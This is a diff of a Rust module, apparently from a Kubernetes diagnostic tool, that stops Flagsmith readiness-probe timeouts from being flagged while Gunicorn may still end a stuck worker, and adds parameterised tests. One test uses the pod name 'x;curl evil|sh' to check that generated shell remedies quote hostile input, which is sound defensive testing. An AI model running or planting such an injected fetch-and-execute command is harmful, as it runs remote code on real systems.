@@ -5,6 +5,7 @@ use jiff::SignedDuration;
 use crate::{
     causes::{prelude::*, probes},
     model::shell,
+    observe::PodSummary,
 };
 
 pub(crate) static CAUSE: Cause = Cause {
@@ -19,6 +20,16 @@ pub(crate) static CAUSE: Cause = Cause {
 /// How long a container may fail its probes after it began: Flagsmith needs ten seconds to listen, three times that
 /// on a busy node.
 const STARTING_TAKES: SignedDuration = SignedDuration::from_secs(45);
+
+/// What the kubelet says of a probe that got no answer in time, rather than a bad one.
+const NO_ANSWER: [&str; 2] = ["context deadline exceeded", "Client.Timeout exceeded"];
+
+/// Gunicorn's timeout where none is set.
+const DEFAULT_TIMEOUT: i32 = 30;
+
+/// How long after Gunicorn has ended a worker that is known: it writes that down at once, and the log of a pod that is
+/// not ready is read each half minute.
+const READ_WITHIN: SignedDuration = SignedDuration::from_secs(45);
 
 fn check(context: &Context<'_>) -> Vec<Draft> {
     probes::PROBED
@@ -37,7 +48,10 @@ fn of(context: &Context<'_>, component: Component) -> Option<Draft> {
                 .running_since
                 .is_some_and(|since| observation.now.duration_since(since) >= STARTING_TAKES)
         });
-        let fails = !said.is_empty() && had_time && !probes::was_killed(&said, pod, observation.now);
+        let fails = !said.is_empty()
+            && had_time
+            && !probes::was_killed(&said, pod, observation.now)
+            && !may_be_a_worker(context, pod, &said);
         fails.then_some((pod, said))
     })?;
     let namespace = shell::name(&context.installation.identity.namespace, "NAMESPACE");
@@ -58,26 +72,53 @@ fn of(context: &Context<'_>, component: Component) -> Option<Draft> {
     })
 }
 
+/// Whether a pod that was ready has only now ceased to answer: if its worker is held up by a request, or stopped, then
+/// Gunicorn ends and names it after its timeout, and that the probes fail is what follows.
+fn may_be_a_worker(context: &Context<'_>, pod: &PodSummary, said: &[String]) -> bool {
+    let Some(since) = pod.ready_since.filter(|_| !pod.ready) else {
+        return false;
+    };
+    let was_ready = pod
+        .containers
+        .iter()
+        .filter(|container| !container.init)
+        .all(|container| {
+            container
+                .running_since
+                .is_some_and(|began| since.duration_since(began) >= STARTING_TAKES)
+        });
+    let no_answer = |line: &String| NO_ANSWER.iter().any(|words| line.contains(words));
+    let timeout = context
+        .running()
+        .and_then(|running| running.values.gunicorn_timeout)
+        .unwrap_or(DEFAULT_TIMEOUT);
+    let named_within = READ_WITHIN.saturating_add(SignedDuration::from_secs(timeout.into()));
+    was_ready && said.iter().all(no_answer) && context.observation.now.duration_since(since) < named_within
+}
+
 #[cfg(test)]
 mod tests {
+    use rstest::rstest;
+
     use super::*;
     use crate::{
         fixtures::{empty_observation, installation, minimal},
-        observe::{ContainerRun, Observation, PodLogFindings, PodSummary, Warning},
+        observe::{ContainerRun, Observation, PodLogFindings, Warning},
     };
 
-    #[test]
-    fn a_hostile_name_is_no_part_of_a_command() {
-        let name = "x;curl evil|sh";
-        let observation = Observation {
+    /// A pod that has run for five minutes and ceased to be ready so long ago.
+    fn unready(name: &str, since: i64, said: &str) -> Observation {
+        let now = empty_observation().now;
+        Observation {
             pods: vec![PodSummary {
                 name: name.to_owned(),
                 component: "api".to_owned(),
+                ready_since: Some(now - SignedDuration::from_secs(since)),
                 containers: vec![ContainerRun {
                     name: "flagsmith".to_owned(),
                     init: false,
                     restarts: 0,
-                    running_since: Some(empty_observation().now - SignedDuration::from_mins(5)),
+                    running_since: Some(now - SignedDuration::from_mins(5)),
                     failed: None,
                     ready: false,
                 }],
@@ -88,11 +129,35 @@ mod tests {
                 warnings: vec![Warning {
                     pod: name.to_owned(),
                     reason: "Unhealthy".to_owned(),
-                    message: "Readiness probe failed: HTTP probe failed with statuscode: 500".to_owned(),
+                    message: said.to_owned(),
                 }],
             },
             ..empty_observation()
-        };
+        }
+    }
+
+    const STATUS: &str = "Readiness probe failed: HTTP probe failed with statuscode: 500";
+    const SILENT: &str = "Readiness probe failed: Get \"http://10.0.0.7:8000/health/readiness/\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)";
+
+    /// A worker that is stopped, or works on one request, is named by Gunicorn after its timeout.
+    #[rstest]
+    #[case::answers_badly(20, STATUS, true)]
+    #[case::gunicorn_may_name_it(20, SILENT, false)]
+    #[case::gunicorn_would_have_named_it(80, SILENT, true)]
+    #[case::it_was_never_ready(290, SILENT, true)]
+    fn a_probe_without_an_answer_waits_for_gunicorn(
+        #[case] since: i64,
+        #[case] said: &str,
+        #[case] expected: bool,
+    ) {
+        let (installation, observation) = (installation(&minimal()), unready("a", since, said));
+        let found = check(&Context::new(&installation, &observation));
+        assert_eq!(!found.is_empty(), expected, "{found:?}");
+    }
+
+    #[test]
+    fn a_hostile_name_is_no_part_of_a_command() {
+        let observation = unready("x;curl evil|sh", 20, STATUS);
         let installation = installation(&minimal());
         let found = check(&Context::new(&installation, &observation));
         let remedy = &found.first().unwrap().remedy;
